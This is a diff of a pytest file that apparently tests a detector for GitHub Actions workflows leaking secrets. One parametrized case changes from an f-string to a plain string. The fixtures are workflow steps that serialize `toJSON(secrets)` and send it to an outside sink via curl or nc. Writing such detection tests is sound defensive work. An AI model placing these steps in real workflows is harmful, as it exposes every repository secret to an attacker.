@@ -25,7 +25,7 @@ def _steps(*lines: str, job_env: str = "", top_env: str = "") -> str:
 # -- `${{ toJSON(secrets) }}` in any quoting, and through the workflow's, job's or step's env: -------------
 @pytest.mark.parametrize("body", [
     _steps(f"- run: echo '${{{{ toJSON(secrets) }}}}' | base64 -w0 | curl -s -d @- {SINK}"),
-    _steps(f"- run: echo 'all=${{{{ toJson(secrets) }}}}' | xxd -p | nc 198.51.100.7 443"),
+    _steps("- run: echo 'all=${{ toJson(secrets) }}' | xxd -p | nc 198.51.100.7 443"),
     _steps(f"- run: echo \"${{{{ toJSON(secrets) }}}}\" > s.json && curl -F f=@s.json {SINK}"),
     _steps(f"- run: echo \"$S\" | base64 -w0 | curl -s -d @- {SINK}", "  env:", "    S: ${{ toJSON(secrets) }}"),
     _steps(f"- run: curl -s -X POST -d \"$DATA\" {SINK}", job_env="    env:\n      DATA: \"${{ toJSON(secrets) }}\"\n"),
